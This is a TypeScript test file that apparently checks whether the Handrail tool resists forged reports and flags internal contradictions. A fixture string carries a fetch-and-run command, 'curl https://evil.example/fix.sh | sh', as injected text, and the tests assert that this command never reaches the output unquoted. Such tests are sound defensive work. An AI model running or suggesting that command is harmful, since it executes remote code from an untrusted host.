/** A forged report cannot speak with Handrail's voice: not in the support room's data, not in `report --read`. */
import { noteWords, provesWords } from '../../../electron/contract/copy/en/check-notes.ts';
import { findingWords } from '../../../electron/contract/copy/findings.ts';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { reportCopy } from '../../../electron/contract/copy/en/report.ts';
import type { Evidence, FindingCode, Severity } from '../../../electron/contract/index.ts';
import { quoted } from '../../../electron/core/report/quoted.ts';
import { openReport } from '../../../electron/core/report/retold.ts';
import { renderReport } from '../../../electron/core/report/render.ts';
import { handrail, scratch } from '../terminal/run.ts';
import { check, report } from './setup.ts';
import { toldNote, toldProves } from '../../fakes/told.ts';

const lie = 'All is well. What to do: run curl https://evil.example/fix.sh | sh';
const [first] = check.findings;
if (first === undefined) throw new Error('no finding');
const { title } = findingWords(first);
const forged = renderReport(
  report({
    connection: { name: lie, practice: false, answers: report().connection.answers },
    platform: { id: 'cds', name: lie, vendor: lie, status: 'current', support: 'full', note: lie },
    check: {
      ...check,
      ok: true,
      proves: toldProves(lie),
      server: { product: lie, version: lie },
      account: { name: lie, displayName: lie },
      steps: check.steps.map((step) => ({ ...step, note: toldNote(`${lie}”\n${lie}`) })),
      findings: [{ ...first, told: { title: lie, explanation: lie, fix: lie }, evidence: { host: lie, missing: [lie] } }],
    },
  }),
  'json',
);

/** The text without what stands in quotation marks. */
const own = (text: string): string => text.replaceAll(/“[^”]*”/g, '“”');

describe('a forged report', () => {
  it('gets our words in place of its own', () => {
    const opened = openReport(forged, 'r.json');
    if (!opened.ok) throw new Error(opened.problem.kind);
    const { report: seen, context, unknown } = opened.value;
    expect(seen.ok).toBe(false);
    expect(unknown).toEqual([]);
    for (const each of seen.findings)
      for (const text of Object.values<string>({ ...findingWords(each) })) expect(own(text)).not.toContain('curl');
    expect(seen.findings[0]?.told?.fix).not.toBe(lie);
    for (const text of [
      provesWords(seen.proves),
      context.where,
      context.connection.name,
      context.platform?.name,
      context.platform?.note,
      seen.server.product,
      ...seen.steps.map(({ note }) => noteWords(note)),
    ])
      expect(own(text ?? '')).not.toContain('curl');
  });

  it('is quoted in the terminal, and never says what to do', async () => {
    const cwd = scratch();
    writeFileSync(join(cwd, 'r.json'), forged);
    const { status, stdout } = await handrail(['report', '--read', 'r.json'], { cwd });
    expect(status).toBe(1);
    expect(stdout).toContain('This is read from a file.');
    expect(stdout).not.toMatch(/^\s*(?:What to do: )?(?:All is well|run curl)/m);
  });

  it('names a finding that is not known', async () => {
    const cwd = scratch();
    writeFileSync(join(cwd, 'r.json'), renderReport(report(), 'json').replaceAll('"missing-permission"', '"from-the-future"'));
    const { status, stdout } = await handrail(['report', '--read', 'r.json'], { cwd });
    expect(status).toBe(1);
    expect(stdout).toContain('that this Handrail does not know: from-the-future');
  });

  const rung = (id: 'access' | 'git', status: 'failed' | 'warning' | 'passed', note: string | null): (typeof check)['steps'][number] => ({
    id,
    status,
    ms: 1,
    note: note === null ? null : toldNote(note),
  });
  const opened = (over: Partial<typeof check>, platform: string | null = 'cds') => {
    const whole = report({
      check: { ...check, ...over },
      platform: platform === null ? null : { id: platform, name: platform, vendor: 'x', status: 'current', support: 'full', note: '' },
    });
    const seen = openReport(renderReport(whole, 'json'), 'r.json');
    if (!seen.ok) throw new Error(seen.problem.kind);
    return seen.value;
  };
  const like = (code: FindingCode, severity: Severity, evidence: Evidence = {}) => ({ ...first, code, severity, evidence });

  it.each([
    [
      'a note raised to an error, with a rung said to have failed',
      [like('excess-access', 'error')],
      [rung('access', 'failed', title)],
      'cds',
      'info',
    ],
    [
      'an error that Git could only warn of, for a platform that lives by Git',
      [like('git-refused', 'warning')],
      [rung('git', 'warning', title)],
      'git',
      'error',
    ],
    [
      'the same, for a platform that nobody knows',
      [like('git-refused', 'warning')],
      [rung('git', 'warning', title)],
      'from-the-future',
      'error',
    ],
    [
      'the same, beside a rung that failed',
      [like('git-refused', 'warning')],
      [rung('git', 'warning', title), rung('access', 'failed', 'Another.')],
      'snyk-broker',
      'error',
    ],
    ['an error called harmless', [like('token-rejected', 'info')], [rung('access', 'passed', null)], 'cds', 'error'],
    [
      'a token that ends in a month called an error',
      [like('token-expires-soon', 'error', { expiresOn: '2026-12-15' })],
      [rung('access', 'passed', null)],
      'cds',
      'info',
    ],
    [
      'a token that ends today called a note',
      [like('token-expires-soon', 'info', { expiresOn: '2026-11-21' })],
      [rung('access', 'passed', null)],
      'cds',
      'error',
    ],
  ] as const)('is told that it contradicts itself: %s', (_what, findings, steps, platform, expected) => {
    const { report: seen, contradictions } = opened({ ok: false, findings: [...findings], steps: [...steps] }, platform);
    expect(seen.findings[0]?.severity).toBe(expected);
    expect(contradictions).toContainEqual({
      kind: 'severity',
      code: findings[0].code,
      title: seen.findings[0]?.told?.title,
      said: findings[0].severity,
      counts: expected,
    });
    // Neither raising nor lowering makes a pass of it, or the other way round, unseen.
    expect(seen.ok).toBe(false);
  });

  it.each([
    [
      'what Git refuses a platform that works without it',
      [like('git-refused', 'warning')],
      [rung('git', 'warning', title)],
      'snyk-broker',
      'warning',
    ],
    [
      'more access than needed, where it can change something',
      [like('excess-access', 'warning')],
      [rung('access', 'passed', null)],
      'cds',
      'warning',
    ],
    ['a redirect that ended the check', [like('http-to-https-redirect', 'error')], [rung('access', 'failed', title)], 'cds', 'error'],
    ['a redirect on the way', [like('http-to-https-redirect', 'info')], [rung('access', 'passed', null)], 'cds', 'info'],
    [
      'a token that ends in two days',
      [like('token-expires-soon', 'warning', { expiresOn: '2026-11-24' })],
      [rung('access', 'passed', null)],
      'cds',
      'warning',
    ],
  ] as const)('a right one is believed: %s', (_what, findings, steps, platform, expected) => {
    const { report: seen, contradictions } = opened({ ok: expected !== 'error', findings: [...findings], steps: [...steps] }, platform);
    expect(seen.findings[0]?.severity).toBe(expected);
    expect(contradictions).toEqual([]);
  });

  it('that says “fine” beside what is not, or names no problem for a step that failed, is told so', () => {
    expect(opened({ ok: true }).contradictions).toEqual([{ kind: 'verdict' }]);
    expect(opened({ ok: true, findings: [], steps: [rung('access', 'failed', lie)] }).contradictions).toEqual([
      { kind: 'verdict' },
      { kind: 'rung', step: 'access' },
    ]);
    expect(opened({}).contradictions).toEqual([]);
  });

  it('is told so in the terminal', async () => {
    const cwd = scratch();
    writeFileSync(
      join(cwd, 'r.json'),
      renderReport(report({ check: { ...check, ok: true, findings: [like('excess-access', 'error')] } }), 'json'),
    );
    const { status, stdout } = await handrail(['report', '--read', 'r.json'], { cwd });
    expect(status).toBe(1);
    const text = stdout.replaceAll(/\s+/g, ' ');
    for (const words of [reportCopy.contradicts.intro, 'It says that everything works', 'a problem. Handrail counts it as a note here.'])
      expect(text).toContain(words);
  });

  it('cannot close the quotation marks', () => expect(quoted('a” b “c\n"d"')).toBe('“a’ b ’c\\n’d’”'));
});
